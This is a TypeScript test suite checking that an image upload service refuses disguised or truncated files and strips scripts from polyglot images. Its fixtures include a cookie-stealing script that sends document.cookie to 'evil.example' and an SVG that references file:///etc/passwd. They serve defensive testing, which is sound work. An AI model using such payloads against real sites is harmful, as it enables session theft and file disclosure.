import { createCanvas, loadImage } from '@napi-rs/canvas';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { limits } from '../../../schema/constants.ts';
import { aManifest } from '../../../tests/support/a-manifest.ts';
import { aPlatform, type Browser, type TestPlatform } from '../../../tests/support/platform.ts';
import { enter } from '../../../tests/support/players.ts';

const canvas = createCanvas(60, 40);
canvas.getContext('2d').fillRect(0, 0, 60, 40);
const [jpeg, png, webp] = await Promise.all([
  canvas.encode('jpeg', 90),
  canvas.encode('png'),
  canvas.encode('webp', 90),
]);

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const svg = (inside: string) =>
  Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40">${inside}</svg>`);
/** A comment segment of a JPEG, which decoders skip but other readers may execute. */
const commented = (text: string) => {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, Buffer.from(text), jpeg.subarray(2)]);
};

const image = 'upload.not_an_image';
/** Files with the content type that they claim, and the expected refusal. */
const refused: readonly (readonly [name: string, body: Buffer, type: string, expected: string])[] = [
  ['a page that says it is a JPEG', Buffer.from(`<!doctype html>${script}`), 'image/jpeg', `415 ${image}`],
  ['a program that says it is a PNG', Buffer.from(`MZ${'\0'.repeat(200)}`), 'image/png', `415 ${image}`],
  [
    'a PNG by its first bytes alone',
    Buffer.concat([png.subarray(0, 8), Buffer.from(script)]),
    'image/png',
    `415 ${image}`,
  ],
  ['an SVG with a script', svg(script), 'image/svg+xml', `415 ${image}`],
  ['an SVG with a handler, as a PNG', svg('<rect onload="alert(1)"/>'), 'image/png', `415 ${image}`],
  ['an SVG that reads a file', svg('<image href="file:///etc/passwd"/>'), 'image/webp', `415 ${image}`],
  ['an image that says it is a page', Buffer.from(jpeg), 'text/html', `415 ${image}`],
  ['a JPEG that breaks off', jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'image/jpeg', '422 upload.cut_short'],
  ['a PNG that breaks off', png.subarray(0, png.length - 20), 'image/png', '422 upload.cut_short'],
  ['a WebP that breaks off', webp.subarray(0, Math.floor(webp.length * 0.8)), 'image/webp', '422 upload.cut_short'],
  [
    'a byte more than 5 MiB',
    Buffer.concat([jpeg, Buffer.alloc(5 * 1024 * 1024 + 1 - jpeg.length)]),
    'image/jpeg',
    '413 upload.too_large',
  ],
];
/** Valid images that are also something else. */
const polyglots: readonly (readonly [name: string, body: Buffer, type: string])[] = [
  ['a JPEG with a script behind it', Buffer.concat([jpeg, Buffer.from(script)]), 'image/jpeg'],
  ['a JPEG with a script as its comment', commented(`*/=1;${script}`), 'image/jpeg'],
  ['a PNG with a page behind it', Buffer.concat([png, Buffer.from(`<html>${script}`)]), 'image/png'],
  [
    'a JPEG of 5 MiB to the byte',
    Buffer.concat([jpeg, Buffer.alloc(5 * 1024 * 1024 - jpeg.length - script.length), Buffer.from(script)]),
    'image/jpeg',
  ],
];
const uses = [
  ['an avatar', undefined],
  ['an application', 'promotion'],
  ['feedback', undefined],
] as const;

describe('attacks by uploads', () => {
  let stage: TestPlatform;
  let browser: Browser;

  beforeAll(async () => {
    const flags = { PROFPIC3: true, FEEDBACK3: true };
    stage = await aPlatform({ manifests: [aManifest({ tenant: { id: 'alpha' }, flags })] });
  });
  afterAll(() => stage?.close());
  beforeEach(async () => {
    ({ browser } = await enter({ stage }));
  });
  const upload = (body: Uint8Array, type: string, use: 'promotion' | undefined) =>
    browser.call('uploadImage', {
      body,
      headers: { 'content-type': type },
      ...(use !== undefined && { query: { use } }),
    });
  const count = (table: 'upload' | 'feedback') =>
    stage.database.asTenant('alpha', async (tx) => (await tx.selectFrom(table).select('id').execute()).length);
  const stored = async (use: 'promotion' | undefined) =>
    String(((await upload(jpeg, 'image/jpeg', use)).body as { value: { id: string } }).value.id);
  /** The image as its owner receives it. */
  const served = (id: string) =>
    stage.server.send({
      path: `/media/uploads/${id}`,
      host: 'alpha.localhost',
      headers: {
        'x-forwarded-proto': 'https',
        cookie: [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; '),
      },
    });

  describe.each(uses)('%s', (_, use) => {
    test.each(refused)('%s is refused, and nothing is stored', async (_name, body, type, expected) => {
      const before = await count('upload');
      const answer = await upload(body, type, use);
      // Applications accept JPEG and PNG only.
      const isOther = use === 'promotion' && type === 'image/webp';
      expect(`${answer.status} ${(answer.body as { code?: string }).code}`).toBe(isOther ? `415 ${image}` : expected);
      expect(await count('upload')).toBe(before);
    });

    test.each(polyglots)('%s is re-encoded without its payload', async (_name, body, type) => {
      const answer = await upload(body, type, use);
      expect(answer.status).toBe(200);
      const { id } = (answer.body as { value: { id: string } }).value;
      const { bytes, headers } = await served(id);
      expect(headers).toMatchObject({ 'content-type': 'image/webp', 'x-content-type-options': 'nosniff' });
      expect(bytes.includes(Buffer.from('script'))).toBe(false);
      expect(bytes.length).toBeLessThan(2000);
      expect(await loadImage(bytes)).toMatchObject({ width: 60, height: 40 });
    });
  });

  test('four images are too many for feedback and for an application; an avatar is one image', async () => {
    expect(limits.uploadBytes).toBe(5 * 1024 * 1024);
    const pictures = [await stored('promotion'), await stored('promotion'), await stored('promotion')];
    const images = [...pictures, await stored(undefined)];
    const before = await count('feedback');
    const words = { body: { content: 'Four of them', images } };
    expect(await browser.failure('sendFeedback', words)).toBe('400 request.invalid');
    expect(await count('feedback')).toBe(before);
    const applied = { body: { promotionId: 'any', remarks: '', pictures: images } };
    expect(await browser.failure('applyForReward', applied)).toBe('400 request.invalid');
    const rows = await stage.database.asTenant('alpha', (tx) =>
      tx.selectFrom('upload').select('id').where('id', 'in', images).where('kept_for', 'is not', null).execute(),
    );
    expect(rows).toEqual([]);
    const two = { body: { icon: images as unknown as string } };
    expect(await browser.failure('setHeadIcon', two)).toBe('400 request.invalid');
  });
});
